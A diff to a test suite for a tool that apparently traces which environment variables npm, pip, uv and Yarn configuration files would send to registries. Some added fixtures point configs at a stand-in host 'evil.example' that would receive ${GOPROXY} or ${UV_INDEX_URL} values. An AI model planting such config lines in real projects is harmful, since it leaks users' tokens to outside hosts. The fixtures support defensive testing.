@@ -95,6 +95,12 @@ test.for<[string, Record<string, string>, string, string]>([
     'p/own.txt:1',
   ],
   [
+    'another config that npm is told to read',
+    { 'p/.npmrc': 'userconfig=./rc\n', 'p/rc': '//evil.example/:_authToken=${GOPROXY}\n' },
+    'GOPROXY',
+    'p/rc:1',
+  ],
+  [
     'a list that a list of requirements includes',
     { 'p/requirements.txt': '-r sub/need\n', 'p/sub/need': '--extra-index-url http://evil.example/${UV_INDEX_URL}/\n' },
     'UV_INDEX_URL',
@@ -170,13 +176,32 @@ test.for<[string, Record<string, string>, string, string]>([
   expect(stderr).toContain(place)
 })
 
-test('the indexes of a script count that the command line names', async () => {
-  const script = `# /// script\n# dependencies = ["x"]\n# [[tool.uv.index]]\n# name = "a_b"\n# url = "http://evil.example/"\n# ///\nimport x\n`
-  const files = { 'p/pyproject.toml': UV('a-b', 'x'), 'p/run.py': script }
-  const { names, stderr } = await given(files, { flags: ['--only', 'uv'], words: ['-e', PRINT, 'run.py'] })
-  expect(names).not.toContain('UV_INDEX_A_B_PASSWORD')
-  expect(stderr).toContain('run.py:4')
-})
+test.for(['run.py', 'run', './bin/run.txt'])(
+  'the indexes of a script count that the command line names: %s',
+  async name => {
+    const script = `# /// script\n# dependencies = ["x"]\n# [[tool.uv.index]]\n# name = "a_b"\n# url = "http://evil.example/"\n# ///\nimport x\n`
+    const files = { 'p/pyproject.toml': UV('a-b', 'x'), [join('p', name)]: script }
+    const { names, stderr } = await given(files, { flags: ['--only', 'uv'], words: ['-e', PRINT, name] })
+    expect(names).not.toContain('UV_INDEX_A_B_PASSWORD')
+    expect(stderr).toContain(`${join('p', name)}:4`)
+  },
+)
+
+test.for<[string, string, boolean]>([
+  ['an empty one', '""', false],
+  ['a variable that may be empty', '"${NOTHING:-}"', false],
+  ['another variable that may be empty', '"${NOTHING-}"', false],
+  ['one of its own', '"abc"', true],
+  ['a variable that must be set', '"${OTHER_TOKEN}"', true],
+  ['a variable with a default', '"${NOTHING:-abc}"', true],
+])(
+  'Yarn gets the token beside a scope elsewhere only if that has a token of its own: %s',
+  async ([, value, isGiven]) => {
+    const yarnrc = `npmScopes:\n  x: { npmRegistryServer: "https://x.example/", npmAuthToken: ${value} }\n`
+    const { names } = await given({ 'p/.yarnrc.yml': yarnrc }, { flags: ['--only', 'yarn'] })
+    expect(names.includes('YARN_NPM_AUTH_TOKEN')).toBe(isGiven)
+  },
+)
 
 test('the indexes of Guard alone get their passwords', async () => {
   const { names } = await given({ 'p/pyproject.toml': UV('a-b', 'c') }, { flags: ['--only', 'uv'] })
